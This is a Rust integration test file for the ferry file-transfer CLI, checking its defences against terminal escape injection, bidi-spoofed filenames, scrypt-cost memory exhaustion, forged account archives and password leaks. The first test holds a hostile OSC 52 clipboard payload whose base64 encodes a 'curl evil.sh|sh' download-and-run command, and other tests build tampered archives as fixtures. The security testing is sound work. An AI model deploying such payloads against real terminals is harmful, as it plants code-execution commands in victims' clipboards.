//! The smaller attacks of issue 11, each performed against the real binary (set
//! `FERRY_TEST_BIN=/path/to/ferry` to run them against another build):
//!
//! - a DHT value carrying an OSC 52 clipboard write (and a C1 CSI, and a bidi override) is
//!   printed by `ferry dht get` / `listen` without a single raw control byte;
//! - a file offered as `invoice\u{202E}fdp.exe` is kept under a name without the override;
//! - an account archive whose scrypt cost was raised to 2^22 is refused at once, in little
//!   memory, with nothing written; one whose certificate is not its key's is refused with
//!   nothing written; `account export` refuses the passphrase `password`;
//! - `ferry id` and the device certificate name no host, also for a device an older ferry
//!   named after the host;
//! - `--turn-password-file` gives the TURN password without it being in `/proc/PID/cmdline`.

use crate::common;
use crate::common::real::*;
use crate::common::*;
use serde_json::Value;
use std::path::Path;
use std::process::Command;
use std::time::{Duration, Instant};

/// A passphrase zxcvbn scores 4 of 4.
const STRONG: &str = "tangerine lighthouse quietly borrows seven anchors";

/// Bytes that must never reach a terminal from a peer: ESC, BEL, C1 CSI (U+009B in UTF-8),
/// and the right-to-left override (U+202E in UTF-8).
fn raw_controls(out: &[u8]) -> Vec<String> {
    let mut found = Vec::new();
    for (name, needle) in [
        ("ESC", &b"\x1b"[..]),
        ("BEL", b"\x07"),
        ("C1 CSI", b"\xc2\x9b"),
        ("RLO", "\u{202e}".as_bytes()),
    ] {
        if out.windows(needle.len()).any(|w| w == needle) {
            found.push(name.to_string());
        }
    }
    found
}

fn ferry_dht(bootstrap: &str, home: &Path) -> Command {
    let mut cmd = Command::new(ferry_bin());
    cmd.env("FERRY_NO_DISCOVERY", "1")
        .env("FERRY_HOME", home)
        .args(["--bootstrap", bootstrap, "dht"]);
    cmd
}

#[test]
fn an_osc52_value_on_the_dht_is_printed_escaped() {
    let node = BootstrapNode::start();
    let home = tempfile::tempdir().unwrap();
    let hostile = "\u{1b}]52;c;Y3VybCBldmlsLnNofHNo\u{7} then \u{9b}2J and \u{202e}fdp.exe";
    let put = Receiving::run({
        let mut cmd = ferry_dht(&node.addr(), home.path());
        cmd.args(["put", "osc52-attack", hostile]);
        cmd
    })
    .finish(Duration::from_secs(30));
    assert!(put.status.success(), "{put:?}");

    // Human output of `get`, then of `listen` (which shows the values already there).
    let get = Receiving::run({
        let mut cmd = ferry_dht(&node.addr(), home.path());
        cmd.args(["get", "osc52-attack"]);
        cmd
    })
    .finish(Duration::from_secs(30));
    assert!(get.status.success(), "{get:?}");
    assert!(get.stdout.contains("52;c;Y3VybCBldmlsLnNofHNo"), "{get:?}");
    let raw = raw_controls(get.stdout.as_bytes());
    assert!(
        raw.is_empty(),
        "`dht get` printed raw {raw:?}: {:?}",
        get.stdout
    );
    assert!(
        get.stdout.contains("\\x1b]52;c;"),
        "shown escaped: {:?}",
        get.stdout
    );

    let listen = Receiving::run({
        let mut cmd = ferry_dht(&node.addr(), home.path());
        cmd.args(["listen", "osc52-attack", "--count", "1"]);
        cmd
    })
    .finish(Duration::from_secs(30));
    assert!(listen.status.success(), "{listen:?}");
    assert!(listen.stdout.contains("52;c;"), "{listen:?}");
    let raw = raw_controls(listen.stdout.as_bytes());
    assert!(
        raw.is_empty(),
        "`dht listen` printed raw {raw:?}: {:?}",
        listen.stdout
    );

    // JSON: the same string for a script, no raw control for a terminal.
    let json = Receiving::run({
        let mut cmd = ferry_dht(&node.addr(), home.path());
        cmd.arg("--json").args(["get", "osc52-attack"]);
        cmd
    })
    .finish(Duration::from_secs(30));
    assert!(json.status.success(), "{json:?}");
    let raw = raw_controls(json.stdout.as_bytes());
    assert!(raw.is_empty(), "`--json dht get` printed raw {raw:?}");
    assert!(
        json.events().iter().any(|v| v["data"] == hostile),
        "{:?}",
        json.stdout
    );
}

#[test]
fn a_name_with_a_right_to_left_override_is_kept_without_it() {
    let alice = Device::new();
    let bob = Device::new();
    let outbox = tempfile::tempdir().unwrap();
    let inbox = tempfile::tempdir().unwrap();
    let offered = "invoice\u{202E}fdp.exe";
    let source = random_file(outbox.path(), offered, 1000);
    let mut receiving = Receiving::start(&bob, inbox.path(), &["--yes", "--once"]);
    let sent = send_direct(
        &alice,
        [&source],
        &bob.device_id,
        &receiving.addr,
        &["--json"],
    )
    .output()
    .unwrap();
    assert!(sent.status.success(), "{sent:?}");
    let done = receiving.wait_for("done");
    let (status, stderr, _) = receiving.wait_exit();
    assert!(status.success(), "{stderr}");
    let kept = entries(inbox.path());
    assert!(
        kept.iter().all(|name| !name.contains('\u{202E}')),
        "kept as {kept:?}"
    );
    assert_eq!(kept, ["invoicefdp.exe"], "{done}");
}

/// Raise the scrypt cost written in an archive (msgpack: the key `log_n`, then a fixint).
fn with_log_n(archive: &[u8], log_n: u8) -> Vec<u8> {
    let key = b"\xa5log_n";
    let at = archive
        .windows(key.len())
        .position(|w| w == key)
        .expect("an archive names log_n")
        + key.len();
    let mut changed = archive.to_vec();
    changed[at] = log_n;
    changed
}

/// `ferry account import FILE` into `home` (which must not exist), with a 256 MiB bound on
/// its address space, so a build that runs scrypt at the cost asked fails instead of eating
/// gigabytes.
fn import_bounded(home: &Path, archive: &Path, passphrase: &str) -> common::Finished {
    let mut cmd = Command::new("sh");
    cmd.args(["-c", "ulimit -v 262144 && exec \"$@\"", "sh", ferry_bin()])
        .args(["account", "import"])
        .arg(archive)
        .env("FERRY_HOME", home)
        .env("FERRY_PASSPHRASE", passphrase);
    Receiving::run(cmd).finish(Duration::from_secs(60))
}

fn nothing_written(home: &Path) {
    assert!(
        !home.exists() || entries(home).is_empty(),
        "the home holds {:?}",
        entries(home)
    );
}

#[test]
fn an_archive_asking_for_scrypt_2_22_is_refused_fast_in_little_memory() {
    let _machine = timed();
    let alice = Device::new();
    let dir = tempfile::tempdir().unwrap();
    let archive = dir.path().join("alice.ferry-account");
    let out = alice
        .ferry()
        .args(["account", "export", "--out"])
        .arg(&archive)
        .env("FERRY_PASSPHRASE", STRONG)
        .output()
        .unwrap();
    assert!(out.status.success(), "{out:?}");
    let costly = dir.path().join("costly.ferry-account");
    std::fs::write(&costly, with_log_n(&std::fs::read(&archive).unwrap(), 22)).unwrap();

    let home = dir.path().join("new-home");
    let started = Instant::now();
    let refused = import_bounded(&home, &costly, STRONG);
    let elapsed = started.elapsed();
    assert_eq!(refused.status.code(), Some(2), "{refused:?}");
    assert!(refused.stderr.contains("scrypt cost 2^22"), "{refused:?}");
    assert!(elapsed < Duration::from_secs(1), "took {elapsed:?}");
    nothing_written(&home);

    // The untouched archive still imports under the same bound.
    let imported = import_bounded(&home, &archive, STRONG);
    assert!(imported.status.success(), "{imported:?}");
    assert!(imported.stdout.contains(&alice.account_id), "{imported:?}");
}

/// An archive as ferry wrote it before the format carried its parameters as associated data
/// (`ferry-account-v1`): `key_pem` and `cert_pem` sealed at scrypt 2^15.
fn v1_archive(key_pem: &str, cert_pem: &str, passphrase: &str) -> Vec<u8> {
    use chacha20poly1305::aead::{Aead, KeyInit};
    #[derive(serde::Serialize)]
    struct Inner<'a> {
        key_pem: &'a str,
        cert_pem: &'a str,
    }
    #[derive(serde::Serialize)]
    struct Sealed {
        format: &'static str,
        log_n: u8,
        salt: serde_bytes::ByteBuf,
        nonce: serde_bytes::ByteBuf,
        ct: serde_bytes::ByteBuf,
    }
    let plain = rmp_serde::to_vec_named(&Inner { key_pem, cert_pem }).unwrap();
    let salt = [3u8; 16];
    let nonce = [5u8; 12];
    let params = scrypt::Params::new(15, 8, 1, 32).unwrap();
    let mut key = [0u8; 32];
    scrypt::scrypt(passphrase.as_bytes(), &salt, &params, &mut key).unwrap();
    let ct = chacha20poly1305::ChaCha20Poly1305::new(&key.into())
        .encrypt(&nonce.into(), plain.as_slice())
        .unwrap();
    rmp_serde::to_vec_named(&Sealed {
        format: "ferry-account-v1",
        log_n: 15,
        salt: serde_bytes::ByteBuf::from(salt.to_vec()),
        nonce: serde_bytes::ByteBuf::from(nonce.to_vec()),
        ct: serde_bytes::ByteBuf::from(ct),
    })
    .unwrap()
}

#[test]
fn an_archive_whose_certificate_is_not_its_keys_writes_nothing() {
    let alice = Device::new();
    let mallory = Device::new();
    let read = |device: &Device, file: &str| {
        std::fs::read_to_string(device.path().join(file)).expect("account file")
    };
    let dir = tempfile::tempdir().unwrap();
    let forged = dir.path().join("forged.ferry-account");
    std::fs::write(
        &forged,
        v1_archive(
            &read(&alice, "account.key"),
            &read(&mallory, "account.crt"),
            STRONG,
        ),
    )
    .unwrap();
    let home = dir.path().join("new-home");
    let refused = import_bounded(&home, &forged, STRONG);
    assert_eq!(refused.status.code(), Some(2), "{refused:?}");
    assert!(refused.stderr.contains("certificate"), "{refused:?}");
    nothing_written(&home);

    // The same archive with the matching certificate is a valid first-format archive.
    let genuine = dir.path().join("genuine.ferry-account");
    std::fs::write(
        &genuine,
        v1_archive(
            &read(&alice, "account.key"),
            &read(&alice, "account.crt"),
            STRONG,
        ),
    )
    .unwrap();
    let imported = import_bounded(&home, &genuine, STRONG);
    assert!(imported.status.success(), "{imported:?}");
    assert!(imported.stdout.contains(&alice.account_id), "{imported:?}");
}

#[test]
fn export_refuses_the_passphrase_password() {
    let alice = Device::new();
    let dir = tempfile::tempdir().unwrap();
    let out_file = dir.path().join("weak.ferry-account");
    let out = alice
        .ferry()
        .args(["account", "export", "--out"])
        .arg(&out_file)
        .env("FERRY_PASSPHRASE", "password")
        .output()
        .unwrap();
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert_eq!(out.status.code(), Some(2), "{out:?}");
    assert!(stderr.contains("too easy to guess"), "{stderr}");
    assert!(!out_file.exists(), "an archive was written");
}

#[test]
fn the_device_certificate_names_no_host() {
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default();
    let host = host.trim().to_string();
    if host.is_empty() || ["ferry", "device"].contains(&host.as_str()) {
        eprintln!("SKIPPED: the host name {host:?} cannot be told from ferry's own words");
        return;
    }
    let device = Device::new();
    let (name, subject, der) = published_name(&device);
    assert_ne!(name, host);
    assert!(
        !name.split(['-', ' ', '.']).any(|word| word == host),
        "`ferry id` names the device {name:?} on host {host:?}"
    );
    assert!(
        !subject.split([' ', '=', ',', '-']).any(|word| word == host),
        "the published certificate's subject {subject:?} names the host {host:?}"
    );
    if host.len() >= 4 {
        assert!(
            !der.windows(host.len()).any(|w| w == host.as_bytes()),
            "the certificate carries {host:?}"
        );
    }
}

/// The subject of the device certificate in `home` and the name `ferry id` gives.
fn published_name(device: &Device) -> (String, String, Vec<u8>) {
    use rustls::pki_types::pem::PemObject;
    let out = device.ferry().args(["--json", "id"]).output().unwrap();
    assert!(out.status.success(), "{out:?}");
    let id: Value = serde_json::from_slice(&out.stdout).expect("id json");
    let name = id["name"].as_str().expect("name").to_string();
    let pem = std::fs::read(device.path().join("device.crt")).unwrap();
    let der = rustls::pki_types::CertificateDer::from_pem_slice(&pem).unwrap();
    let (_, cert) = x509_parser::parse_x509_certificate(&der).unwrap();
    (name, cert.subject().to_string(), der.to_vec())
}

#[test]
fn a_device_an_older_ferry_named_after_the_host_is_renamed() {
    let host = std::fs::read_to_string("/proc/sys/kernel/hostname").unwrap_or_default();
    let host = host.trim().to_string();
    if host.is_empty() || ["ferry", "device"].contains(&host.as_str()) {
        eprintln!("SKIPPED: the host name {host:?} cannot be told from ferry's own words");
        return;
    }
    let device = Device::new();
    let home = device.path();
    // What today's main wrote: the same device key, a certificate named `ferry device HOST`.
    let read = |file: &str| std::fs::read_to_string(home.join(file)).unwrap();
    let account_key = rcgen::KeyPair::from_pem(&read("account.key")).unwrap();
    let issuer = rcgen::CertificateParams::from_ca_cert_pem(&read("account.crt"))
        .unwrap()
        .self_signed(&account_key)
        .unwrap();
    let device_key = rcgen::KeyPair::from_pem(&read("device.key")).unwrap();
    let mut params = rcgen::CertificateParams::default();
    params
        .distinguished_name
        .push(rcgen::DnType::CommonName, format!("ferry device {host}"));
    params.extended_key_usages = vec![
        rcgen::ExtendedKeyUsagePurpose::ClientAuth,
        rcgen::ExtendedKeyUsagePurpose::ServerAuth,
    ];
    let old = params
        .signed_by(&device_key, &issuer, &account_key)
        .unwrap();
    std::fs::write(home.join("device.crt"), old.pem()).unwrap();

    let (name, subject, _) = published_name(&device);
    assert!(
        !name.split(['-', ' ', '.']).any(|word| word == host),
        "`ferry id` still names the device {name:?} on host {host:?}"
    );
    assert!(
        !subject.split([' ', '=', ',', '-']).any(|word| word == host),
        "the certificate's subject {subject:?} still names the host {host:?}"
    );
    // The same device: its id is its key's.
    let out = device.ferry().args(["--json", "id"]).output().unwrap();
    let id: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(id["device_id"], device.device_id.as_str());
}

#[test]
fn a_turn_password_file_is_read_and_never_shown() {
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("turn.pass");
    std::fs::write(&file, "s3cret-from-file\n").unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let home = tempfile::tempdir().unwrap();
    let doctor = |extra: &[&str]| {
        Command::new(ferry_bin())
            .env("FERRY_HOME", home.path())
            .args([
                "--json",
                "--turn-user",
                "turn-alice",
                "--turn-password-file",
            ])
            .arg(&file)
            .args(extra)
            .args(["doctor", "--config-only"])
            .output()
            .unwrap()
    };
    let out = doctor(&[]);
    assert!(out.status.success(), "{out:?}");
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(!stdout.contains("s3cret-from-file"), "{stdout}");
    let config: Value = serde_json::from_str(stdout.lines().next().unwrap()).unwrap();
    let settings = &config["settings"];
    assert_eq!(settings["turn.user"]["value"], "turn-alice");
    assert_eq!(settings["turn.password"]["value"], "***");
    assert_eq!(settings["turn.password"]["source"], "flag");
    assert!(String::from_utf8_lossy(&out.stderr).is_empty(), "{out:?}");

    // A file others may read works, with a warning.
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o644)).unwrap();
    let out = doctor(&[]);
    assert!(out.status.success(), "{out:?}");
    assert!(
        String::from_utf8_lossy(&out.stderr).contains("can be read by other users"),
        "{out:?}"
    );
    // A missing file is an error naming it.
    let missing = Command::new(ferry_bin())
        .env("FERRY_HOME", home.path())
        .args([
            "--turn-password-file",
            "/nonexistent/turn.pass",
            "doctor",
            "--config-only",
        ])
        .output()
        .unwrap();
    assert_eq!(missing.status.code(), Some(2), "{missing:?}");
    assert!(
        String::from_utf8_lossy(&missing.stderr).contains("/nonexistent/turn.pass"),
        "{missing:?}"
    );
}

#[test]
fn a_turn_relay_is_reached_with_the_password_file_and_the_password_is_not_in_cmdline() {
    if !have_coturn() {
        return;
    }
    let coturn = Coturn::start();
    let node = BootstrapNode::start();
    let dir = tempfile::tempdir().unwrap();
    let file = dir.path().join("turn.pass");
    std::fs::write(&file, format!("{}\n", Coturn::PASSWORD)).unwrap();
    use std::os::unix::fs::PermissionsExt;
    std::fs::set_permissions(&file, std::fs::Permissions::from_mode(0o600)).unwrap();
    let device = Device::new();
    let mut cmd = device.ferry();
    cmd.env("FERRY_BOOTSTRAP", node.addr())
        .env("FERRY_NO_DISCOVERY", "1")
        .env("FERRY_NO_UPNP", "1")
        .env_remove("FERRY_TURN_PASSWORD")
        .args([
            "--json",
            "--turn",
            &coturn.url(),
            "--turn-user",
            Coturn::USER,
        ])
        .args(["--turn-realm", Coturn::REALM, "--turn-password-file"])
        .arg(&file)
        .arg("doctor");
    let running = Receiving::run(cmd);
    // The arguments appear a moment after spawn returns (the parent resumes during exec):
    // read until they do, a bounded number of times.
    let mut args: Vec<String> = Vec::new();
    for _ in 0..500 {
        let cmdline =
            std::fs::read(format!("/proc/{}/cmdline", running.child.id())).unwrap_or_default();
        args = cmdline
            .split(|b| *b == 0)
            .map(|a| String::from_utf8_lossy(a).into_owned())
            .collect();
        if args.iter().any(|a| a == "doctor") {
            break;
        }
        std::thread::sleep(Duration::from_micros(100));
    }
    let doctor = running.finish(Duration::from_secs(60));
    assert!(args.iter().any(|a| a == "doctor"), "{args:?} {doctor:?}");
    assert!(
        !args
            .iter()
            .any(|a| a == Coturn::PASSWORD || a.ends_with(&format!("={}", Coturn::PASSWORD))),
        "the password is in the process list: {args:?}"
    );
    let report = doctor
        .event("doctor")
        .unwrap_or_else(|| panic!("{doctor:?}"));
    assert_eq!(report["turn"]["allocation"], true, "{report}");
    assert!(doctor.status.success(), "{doctor:?}");
}
